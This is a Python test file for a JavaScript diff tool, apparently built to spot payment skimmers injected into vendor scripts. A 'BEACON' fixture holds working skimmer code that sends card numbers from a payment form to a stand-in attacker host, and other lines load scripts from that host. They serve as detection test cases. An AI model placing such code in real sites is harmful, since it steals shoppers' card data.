"""Normalized script diffs: formatting never counts, code always does."""

from __future__ import annotations

import pytest

from skimguard import jsdiff
from skimguard.jsdiff import normalize_js, script_diff, strip_comments
from skimguard.testing.factories import VENDOR_JS

FORMATTED = """
function add(a, b) {
    // add two numbers
    var total = a + b;
    if (total > 10) {
        return total - 1;
    }
    return total;
}
window.add = add;
"""
MINIFIED = "function add(a,b){var total=a+b;if(total>10){return total-1}return total}window.add=add;"

VENDOR_MIN = (
    "(function(w,d){function toHalfWidth(s){return s.replace(/[\\uFF10-\\uFF19]/g,function(c){return "
    "String.fromCharCode(c.charCodeAt(0)-0xFEE0)})}function attach(input){input.addEventListener('keyup',"
    'function(){input.value=toHalfWidth(input.value)})}var docs="https://docs.vendor.test/form-assist";'
    "d.querySelectorAll('input[data-assist]').forEach(attach);w.FormAssist={version:'1.4.2',docs:docs}})"
    "(window,document);"
)

BEACON = """
(function () {
  var f = document.querySelector('#payment-form');
  f.addEventListener('submit', function () {
    var d = document.getElementById('cc-number').value;
    new Image().src = 'https://collect.evil.test/c.gif?d=' + btoa(d);
  });
})();
"""


def test_unchanged_is_not_a_change() -> None:
    d = script_diff(VENDOR_JS, VENDOR_JS)
    assert d.changed is False
    assert (d.added, d.removed, d.unified, d.new_urls, d.new_hosts, d.suspicious_calls) == ((), (), "", (), (), ())


def test_reminified_is_not_a_change() -> None:
    assert script_diff(FORMATTED, MINIFIED).changed is False
    assert script_diff(VENDOR_JS, VENDOR_MIN).changed is False
    assert normalize_js(FORMATTED) == [
        "function add(a, b) {",
        "var total = a + b",
        "if (total > 10) {",
        "return total - 1",
        "}",
        "return total",
        "}",
        "window.add = add",
    ]


def test_reformatted_is_not_a_change() -> None:
    reformatted = (
        "function add( a,\n\n b )\n{ var   total = a+b ;\n if(total>10) { return total-1; }\n\n\n return total; }\n"
    )
    assert script_diff(FORMATTED, reformatted + "window.add=add").changed is False


def test_comment_only_change_is_not_a_change() -> None:
    old = "/*! v1.0 built 2024-01-01 */\nvar a = 1; // one\n"
    new = "/*! v1.0 built 2024-03-09 by ci-42 */\nvar a = 1; /* uno */\n// trailing note\n"
    assert script_diff(old, new).changed is False


def test_appended_beacon_is_a_change_with_host_and_sinks() -> None:
    d = script_diff(VENDOR_JS, VENDOR_JS + BEACON)
    assert d.changed is True
    assert d.removed == ()
    assert d.new_hosts == ("collect.evil.test",)
    assert d.new_urls == ("https://collect.evil.test/c.gif?d=",)
    calls = dict(d.suspicious_calls)
    assert calls["new Image"] == 1
    assert calls["btoa"] == 1
    assert calls[".src="] == 1
    assert calls["addEventListener('submit')"] == 1
    assert calls["card field .value"] == 1
    # The vendor's own keyup listener and .value use are old code: not reported as added.
    assert "addEventListener('keyup')" not in calls
    assert d.added_count == len(d.added) == 7
    assert "+new Image().src = 'https://collect.evil.test/c.gif?d=' + btoa(d)" in d.unified.splitlines()
    assert d.unified.startswith("--- old\n+++ new\n@@ -")


def test_hosts_already_in_the_old_code_are_not_new() -> None:
    old = 'var api = "https://api.vendor.test/v1/";'
    new = old + '\nfetch("https://api.vendor.test/v2/track", {method: "POST"});'
    d = script_diff(old, new)
    assert d.new_urls == ("https://api.vendor.test/v2/track",)
    assert d.new_hosts == ()
    assert dict(d.suspicious_calls) == {"fetch(": 1}


def test_protocol_relative_url_host_is_found() -> None:
    d = script_diff(
        "var a = 1;", 'var a = 1; var s = document.createElement("script"); s.src = "//cdn.evil.test/x.js";'
    )
    assert d.new_hosts == ("cdn.evil.test",)
    assert dict(d.suspicious_calls) == {".src=": 1, "createElement('script')": 1}


def test_url_inside_a_string_is_not_a_comment() -> None:
    source = 'var u = "http://a.test/x"; var v = 1;'
    assert strip_comments(source) == source
    assert normalize_js(source) == ['var u = "http://a.test/x"', "var v = 1"]
    d = script_diff(source, source.replace("a.test", "b.test"))
    assert d.changed is True
    assert d.new_hosts == ("b.test",)


def test_comment_markers_in_strings_templates_and_regexes_are_code() -> None:
    source = (
        "var s = '/* not a comment */';\n"
        "var t = `//not ${ {a: 1}.a } either`;\n"
        "var r = /https?:\\/\\//g; keep();\n"
        "var q = a / b / c; // real comment\n"
    )
    stripped = strip_comments(source)
    assert "'/* not a comment */'" in stripped
    assert "`//not ${ {a: 1}.a } either`" in stripped
    assert "/https?:\\/\\//g; keep();" in stripped
    assert "real comment" not in stripped
    assert "var q = a / b / c;" in stripped


def test_unified_diff_is_bounded_and_lines_clipped() -> None:
    old = "\n".join(f"var a{i} = {i};" for i in range(2000))
    new = "\n".join(f"var a{i} = {i + 1};" for i in range(2000)) + "\nvar x = '" + "y" * 5000 + "';"
    d = script_diff(old, new, max_lines=50)
    lines = d.unified.splitlines()
    assert len(lines) == 51 and lines[-1] == "… (diff truncated)"
    assert d.truncated is True
    assert all(len(line) <= jsdiff.MAX_LINE_CHARS for line in lines)
    assert all(len(line) <= jsdiff.MAX_LINE_CHARS for line in d.added)
    assert d.added_count == 2001 and len(d.added) == jsdiff.MAX_KEPT_LINES
    summary = d.summary(10)
    assert summary["diff"].count("\n") == 10 and summary["truncated"] is True


def test_huge_input_uses_the_cheap_normalizer_and_stays_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    # The real limits are MiB; shrink them so the test is fast but walks the same paths.
    monkeypatch.setattr(jsdiff, "MAX_BEAUTIFY_CHARS", 100_000)
    monkeypatch.setattr(jsdiff, "MAX_SOURCE_CHARS", 400_000)
    chunk = "a=b+c;"
    old = chunk * (120_000 // len(chunk))
    new = old + "new Image().src='https://collect.evil.test/'+btoa(a);"
    d = script_diff(old, new)
    assert d.cheap is True and d.changed is True and d.truncated is False
    assert d.new_hosts == ("collect.evil.test",)
    assert {"new Image", "btoa"} <= dict(d.suspicious_calls).keys()
    assert len(d.unified.splitlines()) <= 401
    # Over the hard cap the tail is not looked at at all, and the diff says so.
    assert len(normalize_js("x;" * 300_000)) == 200_000
    assert script_diff("x;" * 300_000, "x;" * 300_000 + "evil()").truncated is True


def test_cheap_normalizer_ignores_formatting_too() -> None:
    assert normalize_js(FORMATTED, cheap=True) == normalize_js(MINIFIED, cheap=True)


@pytest.mark.parametrize(
    "hostile",
    [
        "{" * 20_000,
        "(" * 20_000,
        "`${" * 20_000,  # jsbeautifier recurses on nested templates
        "(/[" * 30_000,  # failed regex literals (quadratic without a budget)
        '"unterminated' * 1000,
        "/*" * 10_000,
        "\x00\ufeff\u2028" * 1000,
    ],
)
def test_hostile_input_does_not_fail(hostile: str) -> None:
    lines = normalize_js(hostile)
    assert isinstance(lines, list)
    assert script_diff(hostile, "x();" + hostile).changed is True
